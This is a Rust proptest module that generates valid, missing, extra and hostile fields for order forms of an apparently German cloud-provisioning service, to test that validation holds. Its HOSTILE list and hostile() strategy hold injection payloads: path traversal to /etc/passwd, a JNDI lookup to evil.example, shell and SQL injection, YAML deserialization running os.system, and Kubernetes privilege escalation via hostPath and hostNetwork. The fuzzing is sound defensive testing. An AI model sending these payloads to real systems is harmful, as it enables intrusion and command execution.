//! What people, or programs in their name, send through an order form: what it asks for, what it does not, and texts that have
//! hurt somebody before.

use crate::world::SITES;
use contract::kinds::Kind;
use contract::{ExposureClass, Power};
use proptest::prelude::*;
use proptest::strategy::BoxedStrategy;
use proptest::string::string_regex;
use serde_json::{Map, Value, json};

/// Made for this test; its private half was thrown away.
const SSH_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGrnd+xf8UZOGBRVihBryHMwCp1w8a6tvRXOgSfo/gB9";

/// From where a booking can be wished to be reached.
pub(crate) const CLASSES: [ExposureClass; 4] = ExposureClass::ALL;

/// Texts that break out of what they are put into: YAML, JSON, shells, SQL, templates, paths, names, numbers, networks.
pub(crate) const HOSTILE: &[&str] = &[
    "",
    " ",
    "-",
    "a-",
    "ä",
    "\0",
    "\u{202e}gnp",
    "../../../etc/passwd",
    "x\nhostNetwork: true",
    "x\r\nX-Forwarded-For: 127.0.0.1",
    "{\"hostPath\": {\"path\": \"/\"}}",
    "\"}],\"hostNetwork\":true,\"x\":[{\"a\":\"",
    "- hostPath: {path: /}",
    "!!python/object/apply:os.system [id]",
    "&a [*a, *a]",
    "{{ .Values.x }}",
    "${jndi:ldap://evil.example/a}",
    "$(id)",
    "`id`",
    "a; id",
    "a' or 1=1--",
    "postgres",
    "template1",
    "kube-system",
    "default",
    "localhost",
    "system:masters",
    "true",
    "null",
    "~",
    "0x10",
    "1e3",
    "NaN",
    "a,b",
    "a.b",
    "a/b",
    "a b",
    "a\tb",
    "A",
    "0.0.0.0/0,::/0",
    "10.0.0.0/+8",
    "10.0.0.0/08",
    "010.0.0.0/8",
    "10.0.0.0/ 8",
    "::ffff:10.0.0.0/104",
    "::ffff:10.0.0.0/128",
    "fe80::%eth0/64",
    "10.0.0.0/8\n",
    "a@b.c,d@e.f",
    "a@b.c\nbcc: d@e.f",
    "\"a b\"@c.d",
    "ssh-ed25519 AAAA\nssh-rsa BBBB",
    "command=\"sh\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGrnd+xf8UZOGBRVihBryHMwCp1w8a6tvRXOgSfo/gB9",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
];

/// One order and what stands around it.
#[derive(Debug, Clone)]
pub(crate) struct Input {
    pub(crate) order: Value,
    /// Short name of the organisation, Kostenstelle, title.
    pub(crate) words: [String; 3],
    pub(crate) class: ExposureClass,
    pub(crate) power: Power,
    /// Which of the locations.
    pub(crate) site: usize,
    /// Whether an earlier state was ordered back, where that is possible.
    pub(crate) restore: bool,
}

impl Input {
    /// An order at the location that has everything.
    pub(crate) fn plain(order: Value) -> Input {
        let words = ["musterstadt", "4711", "Probe"].map(str::to_owned);
        Input {
            order,
            words,
            class: ExposureClass::ProviderNetwork,
            power: Power::On,
            site: 2,
            restore: false,
        }
    }
}

/// A well-meant order.
pub(crate) fn honest(kind: Kind, plan: &Value) -> Value {
    match kind {
        Kind::Postgresql => {
            let mut order = json!({
                "database": "fachverfahren", "version": 15, "storage_gib": plan["storage_gib_min"],
                "allowed_networks": ["192.0.2.0/24"]
            });
            if let Some(extensions) = plan.get("extensions") {
                order["extensions"] = extensions.clone();
            }
            order
        }
        Kind::Application => {
            let mut order = json!({"label": "dienst", "admin_email": "a@b.example", "allowed_networks": ["192.0.2.0/24"]});
            for field in plan["fields"].as_array().into_iter().flatten() {
                let fitting = match field["input"].as_str() {
                    Some("text") => json!("Guten Tag"),
                    Some("number") => field["minimum"].clone(),
                    Some("choice") => field["values"][0].clone(),
                    _ => json!(true),
                };
                order[field["name"].as_str().unwrap()] = fitting;
            }
            order
        }
        Kind::VirtualMachine => json!({
            "hostname": "rechner", "system": plan["systems"][0]["code"], "storage_gib": plan["storage_gib_min"],
            "ssh_keys": [SSH_KEY], "allowed_networks": ["192.0.2.0/24"]
        }),
        Kind::SharedService => {
            let mut order = json!({"tenant": "Musterstadt", "admin_email": "a@b.example"});
            if plan.get("fields").is_some() {
                order["ags"] = json!("01234567");
            }
            order
        }
        Kind::Manual => unreachable!("nothing of it is in a cluster"),
    }
}

/// Pointers to everything in an order, its lists' entries included.
pub(crate) fn places(order: &Value) -> Vec<String> {
    let mut found = Vec::new();
    for (name, value) in order.as_object().unwrap() {
        found.push(format!("/{name}"));
        let entries = value.as_array().map_or(0, Vec::len);
        found.extend((0..entries).map(|position| format!("/{name}/{position}")));
    }
    found
}

/// Any order: most members as the form wants them, some missing, some hostile, some that nobody asked for.
pub(crate) fn orders(schema: &Value) -> BoxedStrategy<Input> {
    let members: Vec<BoxedStrategy<Option<(String, Value)>>> = schema["properties"]
        .as_object()
        .unwrap()
        .iter()
        .map(|(name, property)| {
            let well = meant(name, property);
            let value =
                prop_oneof![14 => well.prop_map(Some), 3 => hostile().prop_map(Some), 1 => Just(None)];
            let name = name.clone();
            value.prop_map(move |value| value.map(|value| (name.clone(), value))).boxed()
        })
        .collect();
    let extra = prop_oneof![
        9 => Just(None),
        1 => (shaped("[a-zA-Z]{1,12}|hostPath|spec|__proto__"), hostile()).prop_map(Some),
    ];
    let order = (members, extra).prop_map(|(members, extra)| {
        Value::Object(members.into_iter().chain([extra]).flatten().collect::<Map<String, Value>>())
    });
    let word = || prop_oneof![3 => shaped("[a-z0-9-]{0,40}"), 1 => shaped("\\PC{0,80}"), 1 => text()];
    let power = prop_oneof![Just(Power::On), Just(Power::Off)];
    let class = prop::sample::select(CLASSES.to_vec());
    (order, [word(), word(), word()], class, power, 0..SITES, any::<bool>())
        .prop_map(|(order, words, class, power, site, restore)| Input {
            order,
            words,
            class,
            power,
            site,
            restore,
        })
        .boxed()
}

/// What the form asks for.
fn meant(name: &str, property: &Value) -> BoxedStrategy<Value> {
    let listed = |values: Vec<Value>| prop::sample::select(values).boxed();
    let consts = |choices: &Vec<Value>| choices.iter().map(|choice| choice["const"].clone()).collect();
    if let Some(choices) = property.pointer("/items/oneOf").and_then(Value::as_array) {
        let values: Vec<Value> = consts(choices);
        let some = 0..=values.len();
        return prop::sample::subsequence(values, some).prop_map(|some| json!(some)).boxed();
    }
    if let Some(values) = property.get("enum").and_then(Value::as_array) {
        return listed(values.clone());
    }
    if let Some(choices) = property.get("oneOf").and_then(Value::as_array) {
        return listed(consts(choices));
    }
    match (name, property["type"].as_str()) {
        ("ssh_keys", _) => {
            shaped("[ -~]{0,30}").prop_map(|comment| json!([format!("{SSH_KEY} {comment}")])).boxed()
        }
        ("allowed_networks", _) => prop::collection::vec(network(), 0..4).prop_map(|all| json!(all)).boxed(),
        (_, Some("integer")) => {
            let bound =
                |key: &str, default: i64| property.get(key).and_then(Value::as_i64).unwrap_or(default);
            (bound("minimum", 0)..=bound("maximum", 1000)).prop_map(|number| json!(number)).boxed()
        }
        (_, Some("boolean")) => any::<bool>().prop_map(|truth| json!(truth)).boxed(),
        _ if property["format"] == "email" => {
            shaped("[a-z.+'{}$]{1,12}@[a-z-]{1,12}\\.example").prop_map(|text| json!(text)).boxed()
        }
        _ => {
            let pattern = property["pattern"].as_str().map(|text| text.trim_matches(['^', '$']).to_owned());
            let most = property["maxLength"].as_u64().unwrap_or(80).min(80);
            let pattern = pattern.unwrap_or_else(|| format!("\\PC{{1,{most}}}"));
            shaped(&pattern).prop_map(|text| json!(text)).boxed()
        }
    }
}

fn network() -> BoxedStrategy<String> {
    let four = (any::<u32>(), 0..=32_u32).prop_map(|(bits, width)| {
        let mask = u32::MAX.checked_shl(32 - width).unwrap_or(0);
        format!("{}/{width}", std::net::Ipv4Addr::from_bits(bits & mask))
    });
    let six = (any::<u128>(), 0..=128_u32).prop_map(|(bits, width)| {
        let mask = u128::MAX.checked_shl(128 - width).unwrap_or(0);
        format!("{}/{width}", std::net::Ipv6Addr::from_bits(bits & mask))
    });
    prop_oneof![four, six].boxed()
}

/// Texts of a regular expression, which is read once and not with every text.
fn shaped(pattern: &str) -> BoxedStrategy<String> {
    string_regex(pattern).unwrap().boxed()
}

fn text() -> BoxedStrategy<String> {
    prop::sample::select(HOSTILE).prop_map(str::to_owned).boxed()
}

fn hostile() -> BoxedStrategy<Value> {
    let number = prop::sample::select(vec![i64::MIN, -1, 0, 1, 7, 4096, i64::from(u32::MAX), i64::MAX]);
    prop_oneof![
        4 => text().prop_map(|text| json!(text)),
        2 => prop::collection::vec(text(), 0..4).prop_map(|all| json!(all)),
        2 => shaped("\\PC{0,60}").prop_map(|text| json!(text)),
        2 => number.prop_map(|number| json!(number)),
        1 => any::<f64>().prop_map(|number| json!(number)),
        1 => Just(json!({"hostPath": {"path": "/"}, "privileged": true})),
        1 => Just(json!([{"name": "x", "hostNetwork": true}, null, 1])),
        1 => any::<bool>().prop_map(|truth| json!(truth)),
        1 => Just(Value::Null),
    ]
    .boxed()
}
